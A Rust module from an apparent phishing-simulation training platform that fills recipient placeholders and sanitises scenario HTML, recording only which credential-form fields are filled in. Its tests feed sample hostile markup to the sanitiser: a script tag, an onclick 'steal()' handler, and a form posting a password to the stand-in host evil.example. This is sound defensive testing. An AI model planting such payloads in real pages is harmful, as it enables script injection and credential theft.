//! What a phishing scenario's content may hold: the placeholders filled in
//! per recipient, and the HTML allowed in a message, a landing page and the
//! teachable-moment page. HTML written by an MSP is sanitised with
//! `ammonia` when it is saved: no scripts, no event handlers, no forms but
//! the landing form, no resources loaded from elsewhere on the pages we
//! serve.

use std::collections::HashSet;

use crate::spelling::spelled_enum;

spelled_enum! {
    /// A placeholder a scenario's text may hold, written `{{name}}`.
    pub enum Placeholder {
        /// The recipient's first name (the first word of the display name, or of the address).
        FirstName => "first_name",
        /// The recipient's display name (or the address).
        DisplayName => "display_name",
        /// The customer's name.
        Company => "company",
        /// The recipient's tracked link to the landing page.
        Link => "link",
    }
}

spelled_enum! {
    /// What the landing page behind a scenario's link is.
    pub enum LandingPage {
        /// A page that says nothing more: the click is the result.
        ClickOnly => "click_only",
        /// A page with a form that asks for credentials (what is typed is never kept).
        CredentialForm => "credential_form",
    }
}

/// A placeholder that is not one of [`Placeholder`], or one left open.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PlaceholderError {
    /// `{{x}}` with an unknown name.
    #[error(
        "unknown placeholder {{{{{0}}}}}; known: {{{{first_name}}}}, {{{{display_name}}}}, {{{{company}}}}, {{{{link}}}}"
    )]
    Unknown(String),
    /// `{{` without `}}`.
    #[error("a placeholder opened with {{{{ is not closed with }}}}")]
    Unclosed,
}

/// The placeholders of `text`, in order; refused at the first unknown or
/// unclosed one. Spaces inside the braces are allowed (`{{ link }}`).
pub fn placeholders(text: &str) -> Result<Vec<Placeholder>, PlaceholderError> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(open) = rest.find("{{") {
        let after = &rest[open + 2..];
        let close = after.find("}}").ok_or(PlaceholderError::Unclosed)?;
        let name = after[..close].trim();
        found.push(name.parse::<Placeholder>().map_err(|_| PlaceholderError::Unknown(name.to_owned()))?);
        rest = &after[close + 2..];
    }
    Ok(found)
}

/// Which of a scenario's `available` languages a campaign in `wanted`
/// uses: that very tag, or else its primary language (`de` for `de-CH`).
pub fn matching_language<'a>(available: &[&'a str], wanted: &str) -> Option<&'a str> {
    let primary = wanted.split('-').next().unwrap_or(wanted);
    available.iter().find(|l| **l == wanted).or_else(|| available.iter().find(|l| **l == primary)).copied()
}

/// The values placeholders are filled with for one recipient.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Recipient {
    /// First name.
    pub first_name: String,
    /// Display name.
    pub display_name: String,
    /// The customer's name.
    pub company: String,
    /// The tracked link.
    pub link: String,
}

impl Recipient {
    /// The values for an account with `display_name` (if any) and `email`.
    pub fn of_account(display_name: Option<&str>, email: &str, company: &str, link: &str) -> Self {
        let display = display_name.map(str::trim).filter(|n| !n.is_empty()).unwrap_or(email).to_owned();
        let first_name = match display_name.map(str::trim).filter(|n| !n.is_empty()) {
            Some(name) => name.split_whitespace().next().unwrap_or(name).to_owned(),
            None => crate::text::capitalised(email.split(['@', '.', '_', '-']).next().unwrap_or(email)),
        };
        Self { first_name, display_name: display, company: company.to_owned(), link: link.to_owned() }
    }

    fn value(&self, placeholder: Placeholder) -> &str {
        match placeholder {
            Placeholder::FirstName => &self.first_name,
            Placeholder::DisplayName => &self.display_name,
            Placeholder::Company => &self.company,
            Placeholder::Link => &self.link,
        }
    }
}

/// How a filled-in value is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Escaping {
    /// As it is (plain text, a subject line).
    Plain,
    /// HTML-escaped, so that an account's name can never add markup.
    Html,
}

/// `text` with its placeholders filled in for `recipient`. Text with an
/// unknown placeholder is never saved, so none is met here; were one met,
/// it would stay as written.
pub fn render(text: &str, recipient: &Recipient, escaping: Escaping) -> String {
    let mut out = String::with_capacity(text.len() + 64);
    let mut rest = text;
    while let Some(open) = rest.find("{{") {
        let after = &rest[open + 2..];
        let Some(close) = after.find("}}") else { break };
        out.push_str(&rest[..open]);
        match after[..close].trim().parse::<Placeholder>() {
            Ok(placeholder) => {
                let value = recipient.value(placeholder);
                match escaping {
                    Escaping::Plain => out.push_str(value),
                    Escaping::Html => out.push_str(&ammonia::clean_text(value)),
                }
            }
            Err(_) => out.push_str(&rest[open..open + 2 + close + 2]),
        }
        rest = &after[close + 2..];
    }
    out.push_str(rest);
    out
}

spelled_enum! {
    /// A piece of HTML of a scenario, each with its own rules.
    pub enum HtmlPart {
        /// The message's HTML body: formatting, links and images; no forms.
        EmailBody => "html_body",
        /// The landing page: no resources from elsewhere; one form, only for `credential_form`.
        LandingPage => "landing_page_html",
        /// The page shown afterwards: no resources from elsewhere, no forms.
        TeachableMoment => "teachable_moment_html",
    }
}

/// HTML a scenario may not hold even after sanitising.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum HtmlError {
    /// More than one form on a landing page.
    #[error("a landing page may hold one form, not {0}")]
    TooManyForms(usize),
    /// A credential-form landing page without a form to fill in.
    #[error("a credential_form landing page needs a <form> with at least one <input>")]
    NoForm,
}

/// `html` sanitised for `part`: scripts, styles, event handlers, frames and
/// unknown tags are removed, and so are forms (except the landing form of a
/// `credential_form` page, whose action and method the platform sets) and,
/// on the pages we serve, anything loaded from elsewhere (only `data:`
/// images stay). Placeholders survive, in text and in `href`.
pub fn sanitise(part: HtmlPart, landing: LandingPage, html: &str) -> Result<String, HtmlError> {
    let with_form = part == HtmlPart::LandingPage && landing == LandingPage::CredentialForm;
    let mut builder = ammonia::Builder::default();
    builder.link_rel(Some("noopener noreferrer"));
    if part != HtmlPart::EmailBody {
        // Inline images only: `data:` is let through the scheme check and
        // then kept for image sources alone.
        builder.add_url_schemes(["data"]);
        builder.attribute_filter(|element, attribute, value| {
            let inline_image = value.starts_with("data:image/");
            match (element, attribute) {
                ("img", "src") if !inline_image => None,
                (_, "href") if value.trim_start().to_ascii_lowercase().starts_with("data:") => None,
                _ => Some(value.into()),
            }
        });
    }
    if with_form {
        builder.add_tags(["form", "input", "label", "button"]);
        builder.add_tag_attributes("input", ["type", "name", "placeholder", "autocomplete", "id"]);
        builder.add_tag_attributes("label", ["for"]);
        builder.add_tag_attributes("button", ["type"]);
    }
    let clean = builder.clean(html).to_string();
    if with_form {
        let forms = clean.matches("<form").count();
        if forms > 1 {
            return Err(HtmlError::TooManyForms(forms));
        }
        if forms == 0 || !clean.contains("<input") {
            return Err(HtmlError::NoForm);
        }
    }
    Ok(clean)
}

/// The names of the fields of a landing form, for results that record
/// *which* fields were filled in, never their values.
pub fn form_field_names(html: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut seen = HashSet::new();
    for chunk in html.split("<input").skip(1) {
        let tag = chunk.split('>').next().unwrap_or_default();
        if let Some(start) = tag.find("name=\"") {
            let name = tag[start + 6..].split('"').next().unwrap_or_default().to_owned();
            if seen.insert(name.clone()) {
                names.push(name);
            }
        }
    }
    names
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ann() -> Recipient {
        Recipient::of_account(Some("Ann <b>Lee</b>"), "ann.lee@acme.example", "Acme & Co", "https://t.example/c/abc")
    }

    #[test]
    fn placeholders_are_found_and_unknown_ones_named() {
        assert_eq!(
            placeholders("Hi {{first_name}}, see {{ link }}"),
            Ok(vec![Placeholder::FirstName, Placeholder::Link])
        );
        assert_eq!(placeholders("Dear {{salary}}"), Err(PlaceholderError::Unknown("salary".to_owned())));
        assert_eq!(placeholders("Dear {{first_name"), Err(PlaceholderError::Unclosed));
        assert!(
            PlaceholderError::Unknown("salary".to_owned()).to_string().starts_with("unknown placeholder {{salary}}")
        );
    }

    #[test]
    fn a_campaign_language_falls_back_to_its_primary_language() {
        assert_eq!(matching_language(&["en", "de"], "de-CH"), Some("de"));
        assert_eq!(matching_language(&["en", "de-CH", "de"], "de-CH"), Some("de-CH"));
        assert_eq!(matching_language(&["en"], "fi"), None);
    }

    #[test]
    fn values_are_escaped_in_html_and_kept_in_plain_text() {
        let recipient = ann();
        assert_eq!(recipient.first_name, "Ann");
        assert_eq!(
            render("<p>Hi {{first_name}} of {{company}}</p>", &recipient, Escaping::Html),
            "<p>Hi Ann of Acme&#32;&amp;&#32;Co</p>"
        );
        assert_eq!(render("Hi {{display_name}}", &recipient, Escaping::Plain), "Hi Ann <b>Lee</b>");
        let nameless = Recipient::of_account(None, "bob.smith@acme.example", "Acme", "x");
        assert_eq!((nameless.first_name.as_str(), nameless.display_name.as_str()), ("Bob", "bob.smith@acme.example"));
    }

    #[test]
    fn scripts_handlers_and_foreign_forms_are_removed_and_placeholders_kept() {
        let html = r#"<p onclick="steal()">Hi {{first_name}}</p><script>alert(1)</script><a href="{{link}}">Open</a><form><input name="x"></form>"#;
        let clean = sanitise(HtmlPart::EmailBody, LandingPage::ClickOnly, html).unwrap_or_default();
        assert!(!clean.contains("script") && !clean.contains("onclick") && !clean.contains("<form"), "{clean}");
        assert!(clean.contains("Hi {{first_name}}") && clean.contains(r#"href="{{link}}""#), "{clean}");
    }

    #[test]
    fn landing_pages_load_nothing_from_elsewhere_and_hold_one_form() {
        let page = r#"<img src="https://evil.example/x.png"><img src="data:image/png;base64,AAAA"><form action="https://evil.example" method="post"><input type="password" name="password"></form>"#;
        let clean = sanitise(HtmlPart::LandingPage, LandingPage::CredentialForm, page).unwrap_or_default();
        assert!(!clean.contains("evil.example"), "{clean}");
        assert!(clean.contains("data:image/png") && clean.contains(r#"name="password""#), "{clean}");
        assert_eq!(form_field_names(&clean), ["password"]);
        let two = "<form><input name=a></form><form><input name=b></form>";
        assert_eq!(sanitise(HtmlPart::LandingPage, LandingPage::CredentialForm, two), Err(HtmlError::TooManyForms(2)));
        assert_eq!(sanitise(HtmlPart::LandingPage, LandingPage::CredentialForm, "<p>hi</p>"), Err(HtmlError::NoForm));
        let stripped = sanitise(HtmlPart::TeachableMoment, LandingPage::CredentialForm, two).unwrap_or_default();
        assert!(!stripped.contains("<form") && !stripped.contains("<input"), "{stripped}");
    }
}
